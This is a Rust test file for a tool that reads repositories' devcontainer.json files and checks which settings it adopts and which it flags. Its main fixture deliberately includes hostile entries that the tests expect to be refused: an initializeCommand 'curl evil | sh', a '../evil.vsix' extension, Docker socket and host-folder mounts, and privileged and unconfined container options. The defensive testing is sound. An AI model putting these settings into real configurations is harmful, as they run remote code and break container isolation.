//! Whole repositories: such as people have, and such as mean harm.

mod features;
mod image;
mod refused;

use std::fs;

use super::*;
use crate::store::Visibility;
use crate::workspaces::{Image, LifecycleRun, OwnMountKind, PortRule, Repository, Runs};

/// A repository's files, and the template that it is read with.
struct Case {
    root: tempfile::TempDir,
    template: Blueprint,
    driver: DriverName,
    mounts: Vec<BindMount>,
}

impl Case {
    fn new(files: &[(&str, &str)]) -> Self {
        let root = tempfile::tempdir().unwrap();
        for (file, text) in files {
            let path = root.path().join(file);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        }
        let repository = Repository {
            url: "https://git.example/team/api".to_owned(),
            ..Repository::default()
        };
        Self {
            root,
            template: Blueprint {
                repository: Some(repository),
                ..Blueprint::default()
            },
            driver: DriverName::Docker,
            mounts: Vec::new(),
        }
    }

    /// Makes one of a `devcontainer.json` alone.
    fn of(text: &str) -> Self {
        Self::new(&[(".devcontainer/devcontainer.json", text)])
    }

    fn read(&self) -> Result<Blueprint, DevcontainerError> {
        let purpose = Purpose {
            folder: Path::new("/home/dev/api"),
            home: Path::new("/home/dev"),
            id: "w0rk",
            driver: self.driver,
            user: "1000:1000",
            image: "debian:12",
            mounts: &self.mounts,
        };
        resolve(
            self.root.path(),
            "c0ffee".to_owned(),
            &self.template,
            purpose,
        )
    }

    #[track_caller]
    fn made(&self) -> (Blueprint, Vec<String>) {
        let made = self.read().unwrap();
        let notices = made.notices().to_vec();
        (made, notices)
    }
}

/// Tells whether one of the notices begins so and has these words.
#[track_caller]
fn assert_named(notices: &[String], start: &str, words: &str) {
    let start = format!(".devcontainer/devcontainer.json:{start}");
    let is_it = |it: &&String| it.starts_with(&start) && it.contains(words);
    assert!(
        notices.iter().any(|it| is_it(&it)),
        "{start} {words}: {notices:#?}"
    );
}

const NODE: &str = r#"// For format details, see https://aka.ms/devcontainer.json.
{
	"name": "Node.js & PostgreSQL",
	"image": "mcr.microsoft.com/devcontainers/javascript-node:1-22-bookworm",
	"features": {
		"ghcr.io/devcontainers/features/docker-in-docker:2": {},
	},
	"containerEnv": { "DATABASE": "postgres://localhost/${localWorkspaceFolderBasename}" },
	"remoteEnv": { "PATH": "${containerEnv:PATH}:${containerWorkspaceFolder}/bin", "GONE": null },
	"forwardPorts": [3000, "localhost:5432", "db:5433"],
	"portsAttributes": { "3000": { "label": "Web", "onAutoForward": "notify" }, "40000-55000": {} },
	"customizations": {
		"vscode": {
			"extensions": ["dbaeumer.vscode-eslint", "-ms-python.python", "../evil.vsix"],
			"settings": { "editor.tabSize": 2, "[go]": { "a": [1, null] } },
		},
		"codespaces": { "openFiles": ["README.md"] },
	},
	"mounts": [
		"source=${localWorkspaceFolderBasename}-node_modules,target=${containerWorkspaceFolder}/node_modules,type=volume",
		{ "type": "tmpfs", "target": "/scratch" },
		"source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind",
		"source=${localWorkspaceFolder}/..,target=/host,type=bind,consistency=cached",
	],
	"initializeCommand": "curl evil | sh",
	"onCreateCommand": "npm ci",
	"updateContentCommand": ["npm", "run", "build"],
	"postCreateCommand": { "db": "./migrate", "hooks": ["npm", "run", "hooks"] },
	"postStartCommand": "echo ${HOME}",
	"postAttachCommand": "",
	"waitFor": "onCreateCommand",
	"remoteUser": "node",
	"runArgs": ["--privileged"],
	"privileged": true,
	"capAdd": ["SYS_ADMIN"],
	"securityOpt": ["seccomp=unconfined"],
	"hostRequirements": { "cpus": 8 },
	"workspaceFolder": "/workspace",
	"shutdownAction": "none",
	"newInTheSpecification": 1,
}
"#;

#[test]
fn what_a_usual_file_says_is_taken_over_and_the_rest_is_named() {
    let (made, notices) = Case::of(NODE).made();
    let image = "mcr.microsoft.com/devcontainers/javascript-node:1-22-bookworm";
    assert_eq!(made.image, Some(Image::Named(image.to_owned())));
    assert_eq!(made.user.as_deref(), Some("node"));
    assert_eq!(made.environment["DATABASE"], "postgres://localhost/api");
    let path = "${containerEnv:PATH}:/home/dev/api/bin";
    assert_eq!(made.remote_environment["PATH"], path);
    let port = |port, name: &str| PortRule {
        port,
        name: name.to_owned(),
        visibility: Visibility::Private,
    };
    assert_eq!(made.ports, [port(3000, "Web"), port(5432, "")]);
    assert_eq!(made.extensions, ["dbaeumer.vscode-eslint"]);
    assert_eq!(
        made.editor_settings["[go]"],
        serde_json::json!({"a": [1, null]})
    );
    let mounts: Vec<_> = made
        .own_mounts
        .iter()
        .map(|it| (&it.kind, it.target.to_str()))
        .collect();
    let volume = OwnMountKind::Volume {
        name: "api-node_modules".to_owned(),
    };
    let memory = OwnMountKind::Memory { size: None };
    let expected = [
        (&volume, Some("/home/dev/api/node_modules")),
        (&memory, Some("/scratch")),
    ];
    assert_eq!(mounts, expected);
    let commands: Vec<_> = made
        .lifecycle
        .iter()
        .map(|it| (it.name.as_str(), it.runs, it.wait))
        .collect();
    let expected = [
        ("onCreateCommand", Runs::OncePerContainer, true),
        ("updateContentCommand", Runs::OncePerContainer, false),
        ("postCreateCommand", Runs::OncePerContainer, false),
        ("postStartCommand", Runs::Always, false),
    ];
    assert_eq!(commands, expected);
    assert_eq!(
        made.lifecycle[0].command,
        LifecycleRun::Shell("npm ci".to_owned())
    );
    assert_eq!(
        made.lifecycle[3].command,
        LifecycleRun::Shell("echo ${HOME}".to_owned())
    );
    assert!(matches!(&made.lifecycle[2].command, LifecycleRun::Parallel(it) if it.len() == 2));
    for (start, words) in [
        (
            "6: features.ghcr.io/devcontainers/features/docker-in-docker:2",
            "isn't installed",
        ),
        ("9: remoteEnv.GONE", "taken away"),
        ("10: forwardPorts", "\"db:5433\""),
        ("11: portsAttributes.3000.onAutoForward", ""),
        ("11: portsAttributes.40000-55000", "single ports"),
        ("14: extensions", "../evil.vsix"),
        ("17: customizations.codespaces", ""),
        ("22: mounts: /var/run/docker.sock", "can't reach"),
        ("23: mounts: /host", "can't reach"),
        ("25: initializeCommand", "isn't run"),
        ("30: postAttachCommand", "postStartCommand"),
        ("33: runArgs", ""),
        ("34: privileged", ""),
        ("35: capAdd", ""),
        ("36: securityOpt", ""),
        ("37: hostRequirements", "template"),
        ("38: workspaceFolder", "/home/dev/api"),
        ("40: newInTheSpecification", "doesn't know"),
    ] {
        assert_named(&notices, start, words);
    }
    assert_eq!(notices.len(), 18, "{notices:#?}");
}

#[test]
fn variables_that_nobody_knows_are_named_once_where_nothing_else_could_know_them() {
    let (made, notices) = Case::of(
        r#"{
        "containerEnv": { "A": "${workspaceFolder}/a ${localEnv:GONE}", "B": "${devcontainerId}" },
        "remoteEnv": { "C": "${workspaceFolder}:${containerEnv:PATH}", "D": "${config:x.y} ${X:-z}" },
        "mounts": ["source=${workspaceFolder}-x,target=/x,type=volume"],
        "postCreateCommand": "echo ${HOME} ${workspaceFolderBasename}",
        "customizations": { "vscode": { "settings": { "a": "${workspaceFolder}" } } }
        }"#,
    )
    .made();
    assert_eq!(made.environment["A"], "${workspaceFolder}/a ");
    assert_named(&notices, "2: ${localEnv:GONE}", "isn't given out");
    for start in ["2: ${workspaceFolder}", "3: ${config:x.y}", "3: ${X:-z}"] {
        assert_named(&notices, start, "no variable of devcontainer.json");
    }
    let variables = notices.iter().filter(|it| it.contains(": ${"));
    assert_eq!(variables.count(), 4, "{notices:#?}");
}

#[test]
fn a_template_wins_where_it_is_about_what_a_workspace_may_do() {
    let mut case = Case::of(
        r#"{"image": "node", "remoteUser": "root", "containerEnv": {"A": "repository"},
            "forwardPorts": [80], "portsAttributes": {"80": {"label": "mine"}},
            "mounts": ["source=x,target=/srv", "source=y,target=/home/dev", "source=z,target=/home"],
            "customizations": {"vscode": {"extensions": ["a.b", "c.d", "-e.f"]}}}"#,
    );
    case.template.image = Some(Image::Named("debian".to_owned()));
    case.template.user = Some("1000:1000".to_owned());
    case.template.cpus = Some("2".parse().unwrap());
    case.template.mounts = vec!["/srv/data:/srv".parse().unwrap()];
    case.template
        .environment
        .insert("A".to_owned(), "template".to_owned());
    case.template
        .environment
        .insert("B".to_owned(), "template".to_owned());
    case.template.extensions = vec!["a.b".to_owned(), "e.f".to_owned()];
    case.template.ports = vec![PortRule {
        port: 80,
        name: "site".to_owned(),
        visibility: Visibility::Members,
    }];
    let (made, notices) = case.made();
    assert_eq!(made.image, Some(Image::Named("node".to_owned())));
    assert_eq!(
        (
            made.environment["A"].as_str(),
            made.environment["B"].as_str()
        ),
        ("repository", "template")
    );
    assert_eq!(
        (made.cpus, &made.mounts),
        (case.template.cpus, &case.template.mounts)
    );
    assert_eq!(made.ports, case.template.ports);
    assert_eq!(made.extensions, ["a.b", "c.d"]);
    assert!(made.own_mounts.is_empty(), "{:?}", made.own_mounts);
    // A folder of the host is reached as whoever the workspace's user is.
    assert_eq!(made.user.as_deref(), Some("1000:1000"));
    assert!(
        notices
            .iter()
            .any(|it| it.contains("remoteUser: it isn't used")),
        "{notices:#?}"
    );
    // Its files may be somebody's alone.
    case.template.mounts = vec!["/srv/data:/data:ro".parse().unwrap()];
    assert_eq!(case.made().0.user.as_deref(), Some("1000:1000"));
    case.template.mounts = vec!["cache:/data".parse().unwrap()];
    assert_eq!(case.made().0.user.as_deref(), Some("root"));
}

#[test]
fn without_a_file_the_template_counts_alone() {
    let mut case = Case::new(&[("README.md", "")]);
    case.template.image = Some(Image::Named("debian".to_owned()));
    let (made, notices) = case.made();
    assert_eq!(made.image, case.template.image);
    assert!(notices.is_empty());
    let read = made.devcontainer.unwrap();
    assert_eq!((read.file, read.commit.as_str()), (None, "c0ffee"));
}
